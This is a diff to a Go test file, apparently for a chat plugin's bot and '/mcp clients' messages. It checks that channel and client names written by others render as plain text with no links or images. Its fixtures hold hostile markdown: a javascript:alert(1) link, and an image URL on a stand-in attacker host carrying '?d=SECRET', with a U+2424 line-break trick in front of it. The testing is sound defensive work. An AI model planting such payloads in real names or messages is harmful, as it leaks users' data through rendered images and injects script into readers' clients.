@@ -28,6 +28,13 @@ const (
 	hostilePurpose = "see www." + renderers.Attacker + "/x and http:/" + renderers.Attacker + "/x a@" + renderers.Attacker
 	hostileHeader  = "[x](javascript:alert(1)) <img src=https://" + renderers.Attacker + "/p> [x]: https://" + renderers.Attacker
 	hostileStatus  = "![x](https://" + renderers.Attacker + "/s) www." + renderers.Attacker + "/s"
+	// hostileOther is a channel's name someone else wrote: the mobile app
+	// links http:/host (one slash) too.
+	hostileOther = "see http:/" + renderers.Attacker + "/x"
+	// hostileClient is a client's own name, with the sign the web app's
+	// lexer turns into a line break: the plugin takes it as the client
+	// sends it.
+	hostileClient = "a\u2424> ![x](https://" + renderers.Attacker + "/p?d=SECRET)"
 )
 
 // rendersOnly renders u's post postID, read back through REST, in both
@@ -64,7 +71,7 @@ func TestTheBotsMessageAboutAWriteWithHostileNamesRendersOnlyItsConfirmationPage
 		t.Fatal(err)
 	}
 	// Names others wrote: a channel someone else named, a post in it.
-	other := createChannel(t, mm.Admin, uniq(t, "open"), hostileName, model.ChannelTypeOpen)
+	other := createChannel(t, mm.Admin, uniq(t, "open"), hostileOther, model.ChannelTypeOpen)
 	own := createChannel(t, erin, uniq(t, "mine"), "www."+renderers.Attacker+"/ch", model.ChannelTypeOpen)
 	c := connect(t, mm.URL, erin.Token)
 	cases := []struct {
@@ -148,7 +155,7 @@ func TestTheMcpClientsAnswerRendersNoLinkOrImageOfAClientsOwnName(t *testing.T) 
 	t.Cleanup(func() { _ = named.Close() })
 	req := mcp.InitializeRequest{}
 	req.Params.ProtocolVersion = mcp.LATEST_PROTOCOL_VERSION
-	req.Params.ClientInfo = mcp.Implementation{Name: hostileName + " www." + renderers.Attacker, Version: "[x](https://" + renderers.Attacker + ")"}
+	req.Params.ClientInfo = mcp.Implementation{Name: hostileClient, Version: "[x](https://" + renderers.Attacker + ")"}
 	if _, err := named.Initialize(ctx, req); err != nil {
 		t.Fatal(err)
 	}
@@ -157,7 +164,7 @@ func TestTheMcpClientsAnswerRendersNoLinkOrImageOfAClientsOwnName(t *testing.T) 
 	if err != nil {
 		t.Fatalf("/mcp clients: %v", err)
 	}
-	if !strings.Contains(res.Text, hostileName) {
+	if !strings.Contains(res.Text, "> ![x](https://"+renderers.Attacker+"/p?d=SECRET)") {
 		t.Fatalf("/mcp clients does not list the client:\n%s", res.Text)
 	}
 	rendersMessageOnly(t, res.Text, "/mcp clients")
